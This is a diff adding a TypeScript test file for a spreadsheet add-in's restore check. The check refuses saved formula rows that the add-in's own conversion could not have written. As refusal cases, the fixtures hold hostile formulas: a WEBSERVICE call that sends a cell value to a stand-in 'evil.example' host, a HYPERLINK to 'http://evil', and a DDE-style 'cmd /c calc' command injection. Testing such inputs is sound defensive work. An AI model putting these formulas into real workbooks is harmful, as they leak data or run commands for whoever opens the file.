@@ -1,0 +1,54 @@
+// The one check both restores (the CLI's and the pane's) make on each AIECON_Originals row before
+// anything is cleared or written: only what conversion itself could have written is restored.
+import { entryProblem, MAX_SPILL_CELLS, restoreRefusal, type OriginalEntry } from "../../src/share/originals";
+
+const entry = (over: Partial<OriginalEntry>): OriginalEntry => ({
+  sheet: "Model",
+  cell: "C7",
+  formula: '=AIECON.COSTCURVE(B2,12,"gpt-4o")',
+  arrayRange: "",
+  writtenRange: "C7:D18",
+  convertedAt: "2026-12-01",
+  ...over,
+});
+const sheets = (name: string) => name === "Model" || name === "AIECON_Originals";
+
+describe("an AIECON_Originals row", () => {
+  it("is restorable as conversion writes it: a formula, a spill's values, a legacy array", () => {
+    expect(entryProblem(entry({}), sheets)).toBeUndefined();
+    expect(entryProblem(entry({ writtenRange: "", formula: "=ROUND(AIECON.COSTPERUSER(A1,50),2)" }), sheets)).toBeUndefined();
+    expect(entryProblem(entry({ writtenRange: "", arrayRange: "C7:E9", formula: '=AIECON.COSTTREE(Tree!A1:F3,"breakdown")' }), sheets)).toBeUndefined();
+    expect(entryProblem(entry({ formula: "=_xldudf_AIECON_TOKENCOUNT(A1)", writtenRange: "C7:C7" }), sheets)).toBeUndefined();
+  });
+
+  it.each([
+    [{ writtenRange: "A1:XFD1048576", cell: "A1" }, /written range 'A1:XFD1048576' covers 17,179,869,184 cells, more than the 250,000/],
+    [{ writtenRange: "A1:B2" }, /written range 'A1:B2' is not the block its cell C7 spilled into/],
+    [{ writtenRange: "Other!C7:D9" }, /written range 'Other!C7:D9' is not the block/],
+    [{ arrayRange: "B6:D9" }, /array range 'B6:D9' is not the block/],
+    [{ writtenRange: "not a range" }, /written range 'not a range' is not the block/],
+    [{ formula: '=WEBSERVICE("http://evil.example/?"&A1)' }, /calls no AIECON function/],
+    [{ formula: '=AIECON.COSTPERUSER(1,2)+WEBSERVICE("http://evil.example")' }, /calls WEBSERVICE, which the conversion never writes/],
+    [{ formula: '=HYPERLINK("http://evil","x")&AIECON.PRICESASOF()' }, /calls HYPERLINK/],
+    [{ formula: "=AIECON.COSTPERUSER([1]Sheet1!A1,2)" }, /calls a link to another file/],
+    [{ formula: "=AIECON.COSTPERUSER(cmd|' /c calc'!A0,2)" }, /calls a link to another file/],
+    [{ sheet: "Gone" }, /its sheet 'Gone' is not in the workbook/],
+    [{ sheet: "AIECON_Originals" }, /its sheet 'AIECON_Originals' is not in the workbook/],
+    [{ cell: "C7:D8" }, /its cell 'C7:D8' is not one cell/],
+  ])("%o is refused", (over, problem) => {
+    expect(entryProblem(entry(over), sheets)).toMatch(problem);
+  });
+
+  it("a spill of exactly the largest size is allowed, one cell more is not", () => {
+    expect(entryProblem(entry({ cell: "A1", writtenRange: `A1:A${MAX_SPILL_CELLS}` }), sheets)).toBeUndefined();
+    expect(entryProblem(entry({ cell: "A1", writtenRange: `A1:A${MAX_SPILL_CELLS + 1}` }), sheets)).toMatch(/covers 250,001 cells/);
+  });
+
+  it("refuses the whole restore by the first bad row, naming it with its text cut and escaped", () => {
+    const planted = entry({ cell: "B2", writtenRange: "", formula: `=WEBSERVICE("${"x".repeat(5000)}\u202e")` });
+    const refusal = restoreRefusal([entry({}), planted], sheets)!;
+    expect(refusal).toMatch(/^Nothing was restored: AIECON_Originals entry 2 \(Model!B2\) cannot be restored as written: its formula '=WEBSERVICE\("x+…' calls no AIECON/);
+    expect(refusal.length).toBeLessThan(400);
+    expect(restoreRefusal([entry({})], sheets)).toBeUndefined();
+  });
+});
